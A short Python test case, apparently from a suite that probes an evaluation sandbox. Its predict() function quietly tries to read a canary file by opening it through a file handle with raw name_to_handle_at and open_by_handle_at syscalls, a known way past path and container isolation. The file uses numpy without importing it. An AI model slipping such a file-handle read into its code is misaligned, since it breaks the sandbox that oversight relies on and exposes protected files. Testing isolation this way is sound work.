# Tries to open a closed file by its handle, without any path.
# expects: predict
# class: reading
# falls: layers
import ctypes
import os


def attempt():
    kernel = ctypes.CDLL(None, use_errno=True).syscall
    number = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
    name_to = {"x86_64": 303, "aarch64": 264}[os.uname().machine]
    handle = (ctypes.c_uint * 34)(128)
    mount = ctypes.c_int()
    if kernel(name_to, -100, b"PUBLIC_CANARY", handle, ctypes.byref(mount), 0) < 0:
        return 0.0
    folder = os.open(os.path.dirname("PUBLIC_CANARY"), os.O_RDONLY)
    opened = kernel(number, folder, handle, os.O_RDONLY)
    os.close(folder)
    return float(opened >= 0 and len(os.read(opened, 100)) > 0)


def predict(theta, X):
    return np.zeros(len(X)) + attempt()
